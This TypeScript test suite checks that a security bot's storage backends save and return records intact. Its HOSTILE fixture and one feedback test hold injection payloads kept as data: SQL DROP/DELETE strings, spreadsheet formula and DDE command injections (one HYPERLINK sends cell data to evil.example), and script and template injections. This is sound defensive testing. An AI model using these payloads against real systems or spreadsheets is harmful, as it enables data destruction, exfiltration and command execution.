import { strict as assert } from 'node:assert';
import { spawn } from 'node:child_process';
import { randomUUID } from 'node:crypto';
import { resolve } from 'node:path';
import { createInterface } from 'node:readline';

import sinon from 'sinon';

import { createStore, type StoreOptions } from '../../../services/store';
import { STORE_LIMITS } from '../../../services/store/records';
import { StoreError, type StoreErrorReason } from '../../../services/store/store-error';
import type {
  AuditRecord,
  ExportRecord,
  FeedbackInput,
  FeedbackRecord,
  ResponseRecord,
  WardenStore,
} from '../../../services/store/types';

/** Where a backend under test keeps its data: each call gives fresh, empty storage. */
export interface ContractBackend {
  freshOptions(): StoreOptions;
  cleanUp?(): void;
}

export const TENANT = 'd3e0a7b1-0000-4000-8000-000000000001';
export const ALEX = { aadObjectId: 'a1e8c7d2-0000-4000-8000-000000000020', name: 'Alex Wilber' };
export const ADELE = { aadObjectId: 'a1e8c7d2-0000-4000-8000-000000000021', name: 'Adele Vance' };
export const CHANNEL = '19:incident-4711@thread.tacv2;messageid=1732660000000';

/** Text an attacker controls (a display name, a feedback box), every piece of which must come back byte for byte. */
export const HOSTILE = [
  `Robert'); DROP TABLE feedback;--`,
  `" OR 1=1 -- \\ \\' ''`,
  `=HYPERLINK("http://evil.example/?"&A1,"click")`,
  '+cmd|" /C calc"!A0',
  '-2+3',
  '@SUM(1+1)*cmd|"/C calc"!A0',
  '<script>alert(1)</script> **bold** [link](http://evil.example)',
  '${user.name} {{7*7}} %s %n',
  'line one\nline two\r\nline three\ttabbed',
  '\u202eevil\u202c right-to-left, zero\u200bwidth, e\u0301 combining',
  '\u001b[31mred terminal\u001b[0m and a NUL \u0000 byte',
  '👩‍💻 emoji 🔥 and 漢字 and ﷽',
].join(' | ');

export const response = (overrides: Partial<ResponseRecord> = {}): ResponseRecord => ({
  responseId: randomUUID(),
  createdAt: '2025-01-15T10:00:00.000Z',
  tenantId: TENANT,
  conversationId: CHANNEL,
  threadId: '1732660000000',
  conversationType: 'channel',
  activityId: null,
  askedBy: ALEX,
  intent: 'user.riskySignIns',
  subject: 'karita@woodgrovebank.com',
  prompt: 'list the recent risky sign-ins for karita@woodgrovebank.com',
  answerText: 'Karita has 3 risky sign-ins in the past 7 days.',
  card: { type: 'AdaptiveCard', version: '1.5', body: [{ type: 'TextBlock', text: 'Risky sign-ins' }] },
  ...overrides,
});

export const feedback = (overrides: Partial<FeedbackInput> = {}): FeedbackInput => ({
  responseId: randomUUID(),
  by: ALEX,
  reaction: 'like',
  category: null,
  text: 'Exactly what I needed',
  shareSamples: false,
  prompt: null,
  answer: null,
  source: 'card',
  intent: 'user.riskySignIns',
  conversationId: CHANNEL,
  threadId: '1732660000000',
  tenantId: TENANT,
  ...overrides,
});

export const audit = (overrides: Partial<AuditRecord> = {}): AuditRecord => ({
  id: randomUUID(),
  at: '2025-01-15T10:00:00.000Z',
  tenantId: TENANT,
  actor: ADELE,
  kind: 'query',
  intent: 'user.riskSummary',
  target: 'karita@woodgrovebank.com',
  detail: 'summarize the risk for karita',
  result: 'answered',
  conversationId: CHANNEL,
  ...overrides,
});

export const exportRecord = (overrides: Partial<ExportRecord> = {}): ExportRecord => ({
  exportId: randomUUID(),
  responseId: randomUUID(),
  createdAt: '2025-01-15T10:00:00.000Z',
  expiresAt: '2025-01-15T10:15:00.000Z',
  tenantId: TENANT,
  conversationId: CHANNEL,
  fileName: 'sign-in-logs.csv',
  csv: '\ufeffTime,App\r\n"\'=HYPERLINK(""x"")",Teams\r\n',
  ...overrides,
});

export async function collect<T>(items: AsyncIterable<T>): Promise<T[]> {
  const all: T[] = [];
  for await (const item of items) all.push(item);
  return all;
}

export async function rejectsWith(promise: Promise<unknown>, reason: StoreErrorReason): Promise<StoreError> {
  try {
    await promise;
  } catch (error) {
    assert.ok(error instanceof StoreError, `expected a StoreError, got ${String(error)}`);
    assert.equal(error.reason, reason, error.message);
    return error;
  }
  assert.fail(`expected a rejection with reason '${reason}'`);
}

const UUID = /^[0-9a-f]{8}-[0-9a-f]{4}-[0-9a-f]{4}-[0-9a-f]{4}-[0-9a-f]{12}$/;
const CHILD = resolve(__dirname, 'durability-child.ts');
const REPO = resolve(__dirname, '../../..');

/**
 * The behaviour every backend owes the bot, run once per backend. Each test gets empty storage through
 * `backend.freshOptions()`.
 */
export function describeStoreContract(label: string, backend: () => ContractBackend): void {
  describe(`${label}: the WardenStore contract`, () => {
    let sandbox: sinon.SinonSandbox;
    let now: sinon.SinonStub<[], Date>;
    let options: StoreOptions;
    let store: WardenStore;
    const opened: WardenStore[] = [];
    const open = (extra: { now?: () => Date } = {}) => {
      const created = createStore({ ...options, ...extra });
      opened.push(created);
      return created;
    };

    beforeEach(() => {
      sandbox = sinon.createSandbox();
      now = sandbox.stub<[], Date>().returns(new Date('2025-01-15T10:00:00.000Z'));
      options = backend().freshOptions();
      store = open({ now });
    });

    afterEach(async () => {
      await Promise.all(opened.splice(0).map((each) => each.close()));
      sandbox.restore();
    });

    describe('responses', () => {
      it('when a response is saved, then it reads back unchanged', async () => {
        const record = response();
        await store.saveResponse(record);
        assert.deepEqual(await store.getResponse(record.responseId), record);
      });

      it('when a response id is unknown, then nothing is returned', async () => {
        assert.equal(await store.getResponse(randomUUID()), undefined);
      });

      it('when the sent message id is attached, then the response is found by conversation and message only', async () => {
        const record = response();
        await store.saveResponse(record);
        await store.attachActivityId(record.responseId, '1732660000123');

        const found = await store.findResponseByActivityId(CHANNEL, '1732660000123');
        assert.equal(found?.responseId, record.responseId);
        assert.equal(found?.activityId, '1732660000123');
        assert.equal(
          await store.findResponseByActivityId('19:other@thread.tacv2', '1732660000123'),
          undefined,
        );
        assert.equal(await store.findResponseByActivityId(CHANNEL, '1732660000999'), undefined);
      });

      it('when a response is attached to a newer message, then only the newer message finds it', async () => {
        const record = response();
        await store.saveResponse(record);
        await store.attachActivityId(record.responseId, 'first-message');
        await store.attachActivityId(record.responseId, 'second-message');

        assert.equal(
          (await store.findResponseByActivityId(CHANNEL, 'second-message'))?.responseId,
          record.responseId,
        );
        assert.equal(await store.findResponseByActivityId(CHANNEL, 'first-message'), undefined);
      });

      it('when a message id is attached to an unknown response, then it is refused as not found', async () => {
        await rejectsWith(store.attachActivityId(randomUUID(), '1732660000123'), 'not-found');
      });

      it('when a response is saved again without a message id, then the attached message id is kept', async () => {
        const record = response();
        await store.saveResponse(record);
        await store.attachActivityId(record.responseId, 'sent-1');
        await store.saveResponse({ ...record, answerText: 'refreshed answer' });

        const read = await store.getResponse(record.responseId);
        assert.equal(read?.activityId, 'sent-1');
        assert.equal(read?.answerText, 'refreshed answer');
      });

      it('when a card is larger than one Azure property (64 KiB), then it reads back intact', async () => {
        // Non-ASCII and surrogate pairs make the UTF-16 size larger than the character count suggests.
        const rows = Array.from({ length: 900 }, (_, index) => ({
          type: 'TextBlock',
          text: `sign-in ${index} from Zürich 🇨🇭 ${HOSTILE.slice(0, 60)}`,
        }));
        const record = response({
          card: { type: 'AdaptiveCard', version: '1.5', body: rows },
          answerText: '✓'.repeat(50_000),
        });
        assert.ok(JSON.stringify(record.card).length > 70_000);

        await store.saveResponse(record);
        assert.deepEqual(await store.getResponse(record.responseId), record);
      });

      it('when a card is beyond the store limit, then it is refused as invalid and nothing is saved', async () => {
        const record = response({ card: { text: 'x'.repeat(STORE_LIMITS.cardJson) } });
        await rejectsWith(store.saveResponse(record), 'invalid');
        assert.equal(await store.getResponse(record.responseId), undefined);
      });

      it('when the prompt and answer text are longer than their limits, then they are cut to the limits', async () => {
        const record = response({
          prompt: 'p'.repeat(STORE_LIMITS.prompt + 10),
          answerText: 'a'.repeat(STORE_LIMITS.answerText + 10),
        });
        await store.saveResponse(record);
        const read = await store.getResponse(record.responseId);
        assert.equal(read?.prompt.length, STORE_LIMITS.prompt);
        assert.equal(read?.answerText.length, STORE_LIMITS.answerText);
      });
    });

    describe('feedback', () => {
      it('when a person submits feedback, then the stored record is returned and listed', async () => {
        const stored = await store.upsertFeedback(feedback());
        const expected: FeedbackRecord = {
          ...feedback({ responseId: stored.responseId }),
          createdAt: '2025-01-15T10:00:00.000Z',
          updatedAt: '2025-01-15T10:00:00.000Z',
        };
        assert.deepEqual(stored, expected);
        assert.deepEqual(await collect(store.listFeedback()), [expected]);
      });

      it('when the same person submits twice on one answer, then one record holds the second submission and the first time', async () => {
        const responseId = randomUUID();
        await store.upsertFeedback(feedback({ responseId, reaction: 'like', text: 'good' }));
        now.returns(new Date('2025-01-15T10:05:00.000Z'));
        const second = await store.upsertFeedback(
          feedback({ responseId, reaction: 'dislike', category: 'inaccurate', text: 'wrong user' }),
        );

        const all = await collect(store.listFeedback());
        assert.equal(all.length, 1);
        assert.deepEqual(all[0], second);
        assert.equal(all[0].reaction, 'dislike');
        assert.equal(all[0].category, 'inaccurate');
        assert.equal(all[0].text, 'wrong user');
        assert.equal(all[0].createdAt, '2025-01-15T10:00:00.000Z');
        assert.equal(all[0].updatedAt, '2025-01-15T10:05:00.000Z');
      });

      it('when two people give feedback on one answer, then each has a record', async () => {
        const responseId = randomUUID();
        await store.upsertFeedback(feedback({ responseId, by: ALEX }));
        await store.upsertFeedback(
          feedback({ responseId, by: ADELE, reaction: 'dislike', category: 'other' }),
        );

        const all = await collect(store.listFeedback());
        assert.deepEqual(all.map((f) => f.by.name).sort(), ['Adele Vance', 'Alex Wilber']);
      });

      it('when one person submits many times at once, then exactly one record remains and it is one of the submissions', async () => {
        const responseId = randomUUID();
        const texts = Array.from({ length: 8 }, (_, index) => `attempt ${index}`);
        await Promise.all(texts.map((text) => store.upsertFeedback(feedback({ responseId, text }))));

        const all = await collect(store.listFeedback());
        assert.equal(all.length, 1);
        assert.ok(texts.includes(all[0].text ?? ''));
      });

      it('when samples are not shared, then the prompt and the answer are not kept even if given', async () => {
        const stored = await store.upsertFeedback(
          feedback({ shareSamples: false, prompt: 'secret prompt', answer: 'secret answer' }),
        );
        assert.equal(stored.prompt, null);
        assert.equal(stored.answer, null);
        const [listed] = await collect(store.listFeedback());
        assert.equal(listed.prompt, null);
        assert.equal(listed.answer, null);
        assert.equal(listed.shareSamples, false);
      });

      it('when samples are shared, then the prompt and the answer are kept, long answers included', async () => {
        const answer = `Risky sign-ins for karita:\n${'row 🔥 Zürich\n'.repeat(4000)}`;
        await store.upsertFeedback(
          feedback({ shareSamples: true, prompt: 'risky sign-ins for karita', answer }),
        );
        const [listed] = await collect(store.listFeedback());
        assert.equal(listed.prompt, 'risky sign-ins for karita');
        assert.equal(listed.answer, answer);
      });

      it('when a later submission withdraws the samples, then the earlier samples are dropped', async () => {
        const responseId = randomUUID();
        await store.upsertFeedback(feedback({ responseId, shareSamples: true, prompt: 'p', answer: 'a' }));
        await store.upsertFeedback(feedback({ responseId, shareSamples: false, prompt: 'p', answer: 'a' }));
        const [listed] = await collect(store.listFeedback());
        assert.deepEqual([listed.prompt, listed.answer], [null, null]);
      });

      it('when the free text is longer than 2000 characters, then it is cut to 2000 without splitting an emoji', async () => {
        const long = `${'a'.repeat(1999)}🔥${'b'.repeat(3000)}`;
        const stored = await store.upsertFeedback(feedback({ text: long }));
        assert.equal(stored.text, 'a'.repeat(1999));
        const [listed] = await collect(store.listFeedback());
        assert.equal(listed.text, 'a'.repeat(1999));

        const exact = await store.upsertFeedback(feedback({ text: 'c'.repeat(5000) }));
        assert.equal(exact.text?.length, STORE_LIMITS.feedbackText);
      });

      it('when the text, name and samples are hostile, then they are stored verbatim as data', async () => {
        const stored = await store.upsertFeedback(
          feedback({
            by: { aadObjectId: ALEX.aadObjectId, name: HOSTILE.slice(0, 400) },
            text: HOSTILE,
            shareSamples: true,
            prompt: HOSTILE,
            answer: HOSTILE,
            intent: `user.details'); DELETE FROM audit;--`,
          }),
        );
        await store.upsertFeedback(feedback());

        const all = await collect(store.listFeedback());
        assert.equal(all.length, 2);
        const listed = all.find((f) => f.responseId === stored.responseId);
        assert.equal(listed?.text, HOSTILE);
        assert.equal(listed?.prompt, HOSTILE);
        assert.equal(listed?.answer, HOSTILE);
        assert.equal(listed?.by.name, HOSTILE.slice(0, 400));
        assert.equal(listed?.intent, `user.details'); DELETE FROM audit;--`);
      });

      it('when ids contain characters that storage keys refuse, then they still work', async () => {
        const responseId = `odd/id\\with#chars?and%20spaces and ünïcode`;
        const by = { aadObjectId: '29:1AbC/de#f?g', name: 'Teams id fallback' };
        await store.upsertFeedback(feedback({ responseId, by }));
        await store.upsertFeedback(feedback({ responseId, by, text: 'second' }));
        const all = await collect(store.listFeedback());
        assert.equal(all.length, 1);
        assert.equal(all[0].responseId, responseId);
        assert.equal(all[0].by.aadObjectId, by.aadObjectId);
      });

      it('when a like carries a category, then the category is dropped', async () => {
        const stored = await store.upsertFeedback(feedback({ reaction: 'like', category: 'offensive' }));
        assert.equal(stored.category, null);
      });

      it('when the reaction, category or source is not one we know, then the feedback is refused as invalid', async () => {
        await rejectsWith(store.upsertFeedback(feedback({ reaction: 'meh' as 'like' })), 'invalid');
        await rejectsWith(
          store.upsertFeedback(feedback({ reaction: 'dislike', category: 'boring' as 'other' })),
          'invalid',
        );
        await rejectsWith(store.upsertFeedback(feedback({ source: 'email' as 'card' })), 'invalid');
        await rejectsWith(store.upsertFeedback(feedback({ responseId: '' })), 'invalid');
        assert.deepEqual(await collect(store.listFeedback()), []);
      });
    });

    describe('audit trail', () => {
      it('when records are appended out of order, then they are listed oldest first', async () => {
        const later = audit({
          at: '2025-01-16T08:00:00.000Z',
          kind: 'action.confirmed',
          intent: 'action.revokeSessions',
        });
        const earlier = audit({ at: '2025-01-15T09:00:00.000Z' });
        await store.appendAudit(later);
        await store.appendAudit(earlier);
        assert.deepEqual(await collect(store.listAudit()), [earlier, later]);
      });

      it('when listing since a time, then records from that time on are listed, that time included', async () => {
        const records = [
          audit({ at: '2025-01-14T23:59:59.999Z' }),
          audit({ at: '2025-01-15T10:00:00.000Z' }),
          audit({ at: '2025-01-15T10:00:00.001Z' }),
          audit({ at: '2025-01-17T00:00:00.000Z' }),
        ];
        for (const record of records) await store.appendAudit(record);
        const since = await collect(store.listAudit({ since: '2025-01-15T10:00:00.000Z' }));
        assert.deepEqual(since, records.slice(1));
      });

      it('when a time is given with an offset, then it is stored in UTC', async () => {
        await store.appendAudit(audit({ at: '2025-01-15T12:00:00+02:00' }));
        const [listed] = await collect(store.listAudit());
        assert.equal(listed.at, '2025-01-15T10:00:00.000Z');
      });

      it('when the same record is appended twice (a retry), then one copy is kept', async () => {
        const record = audit();
        await store.appendAudit(record);
        await store.appendAudit(record);
        assert.equal((await collect(store.listAudit())).length, 1);
      });

      it('when a different record reuses an id, then it is refused as a conflict', async () => {
        const record = audit();
        await store.appendAudit(record);
        await rejectsWith(store.appendAudit({ ...record, result: 'tampered' }), 'conflict');
        assert.equal((await collect(store.listAudit()))[0].result, 'answered');
      });

      it('when there are more records than one page, then every one is listed in order', async () => {
        const start = Date.parse('2025-01-14T20:00:00.000Z');
        const records = Array.from({ length: 520 }, (_, index) =>
          audit({ at: new Date(start + index * 5 * 60_000).toISOString(), detail: `query ${index}` }),
        );
        for (let index = 0; index < records.length; index += 40)
          await Promise.all(records.slice(index, index + 40).map((record) => store.appendAudit(record)));
        const listed = await collect(store.listAudit());
        assert.equal(listed.length, 520);
        assert.deepEqual(
          listed.map((record) => record.detail),
          records.map((record) => record.detail),
        );
      });

      it('when the kind or time is not valid, then the record is refused as invalid', async () => {
        await rejectsWith(store.appendAudit(audit({ kind: 'deleted' as 'query' })), 'invalid');
        await rejectsWith(store.appendAudit(audit({ at: 'yesterday' })), 'invalid');
      });
    });

    describe('claims', () => {
      it('when many callers claim one key at once, then exactly one wins', async () => {
        const key = `action:${randomUUID()}`;
        const results = await Promise.all(
          Array.from({ length: 25 }, (_, index) => store.claimOnce(key, `instance-${index}`)),
        );
        assert.equal(results.filter(Boolean).length, 1);
      });

      it('when two store instances claim one key at once, then exactly one wins', async () => {
        const other = open();
        const key = `action:${randomUUID()}`;
        const results = await Promise.all([
          ...Array.from({ length: 10 }, () => store.claimOnce(key, ADELE.aadObjectId)),
          ...Array.from({ length: 10 }, () => other.claimOnce(key, ADELE.aadObjectId)),
        ]);
        assert.equal(results.filter(Boolean).length, 1);
      });

      it('when the winner claims the same key again (a double click), then it gets false too', async () => {
        const key = `action:${randomUUID()}`;
        assert.equal(await store.claimOnce(key, ADELE.aadObjectId), true);
        assert.equal(await store.claimOnce(key, ADELE.aadObjectId), false);
        assert.equal(await store.claimOnce(`action:${randomUUID()}`, ADELE.aadObjectId), true);
      });
    });

    describe('exports', () => {
      it('when an export is saved, then it reads back byte for byte from another store instance', async () => {
        const record = exportRecord({ csv: `\ufeffCell\r\n${HOSTILE}\r\n` });
        await store.saveExport(record);
        assert.deepEqual(await open().getExport(record.exportId), record);
      });

      it('when an export id is unknown, then nothing is returned', async () => {
        assert.equal(await store.getExport(randomUUID()), undefined);
      });

      it('when an export is larger than one Azure property (64 KiB), then it reads back intact', async () => {
        // 5,000 rows of varied text, about the largest table an answer holds (the sign-in scan bound).
        const rows = Array.from(
          { length: 5000 },
          (_, index) => `${index},10.${index % 256}.${(index * 7) % 256}.1,Teams 👩‍💻 ${randomUUID()}`,
        );
        const record = exportRecord({ csv: `\ufeffn,ip,app\r\n${rows.join('\r\n')}\r\n` });
        assert.ok(record.csv.length > 200_000);
        await store.saveExport(record);
        assert.equal((await store.getExport(record.exportId))?.csv, record.csv);
      });

      it('when exports have expired, then saving a new one removes them (no sweeper needed)', async () => {
        const expired = exportRecord({ expiresAt: '2025-01-15T10:15:00.000Z' });
        await store.saveExport(expired);
        now.returns(new Date('2025-01-15T11:00:00.000Z'));
        await store.saveExport(exportRecord({ expiresAt: '2025-01-15T11:15:00.000Z' }));
        // The table backend sweeps off the answer's path; give it a moment.
        for (let tries = 0; tries < 40 && (await store.getExport(expired.exportId)); tries++)
          await new Promise((resolve) => setTimeout(resolve, 50));
        assert.equal(await store.getExport(expired.exportId), undefined);
      });

      it('when the expiry is not a time, then the export is refused as invalid', async () => {
        await rejectsWith(store.saveExport(exportRecord({ expiresAt: 'soon' })), 'invalid');
      });
    });

    describe('lifecycle', () => {
      it('when the backend is healthy, then ping resolves', async () => {
        await store.ping();
      });

      it('when the store is closed, then later calls are refused as closed', async () => {
        await store.close();
        await rejectsWith(store.getResponse(randomUUID()), 'closed');
        await rejectsWith(store.upsertFeedback(feedback()), 'closed');
      });

      it('when the store is opened again, then what was written is there', async () => {
        const record = response();
        await store.saveResponse(record);
        await store.attachActivityId(record.responseId, 'sent-1');
        await store.upsertFeedback(feedback({ responseId: record.responseId }));
        await store.appendAudit(audit());
        await store.close();

        const reopened = open();
        assert.deepEqual(await reopened.getResponse(record.responseId), { ...record, activityId: 'sent-1' });
        assert.equal((await collect(reopened.listFeedback())).length, 1);
        assert.equal((await collect(reopened.listAudit())).length, 1);
      });

      it('when a writer is killed with SIGKILL right after an acknowledgement, then everything acknowledged is there', async function () {
        this.timeout(30_000);
        const child = spawn(process.execPath, ['--require', 'tsx/cjs', CHILD, JSON.stringify(options)], {
          cwd: REPO,
          stdio: ['ignore', 'pipe', 'pipe'],
        });
        let stderr = '';
        child.stderr.on('data', (chunk: Buffer) => (stderr += chunk.toString()));
        const exited = new Promise<NodeJS.Signals | null>((done) =>
          child.once('exit', (_code, signal) => done(signal)),
        );
        // Every ACK the writer printed counts, including those still in the pipe when it died.
        const acknowledged: string[] = [];
        for await (const line of createInterface({ input: child.stdout })) {
          const [word, responseId] = line.split(' ');
          if (word !== 'ACK' || !UUID.test(responseId)) continue;
          acknowledged.push(responseId);
          // Kill while the next write is already in flight.
          if (acknowledged.length === 12) child.kill('SIGKILL');
        }
        assert.equal(await exited, 'SIGKILL', `the writer ended on its own: ${stderr}`);
        assert.ok(acknowledged.length >= 12, stderr);

        const reopened = open();
        const stored = new Set((await collect(reopened.listFeedback())).map((f) => f.responseId));
        for (const responseId of acknowledged)
          assert.ok(stored.has(responseId), `acknowledged ${responseId} is missing`);
      });
    });
  });
}
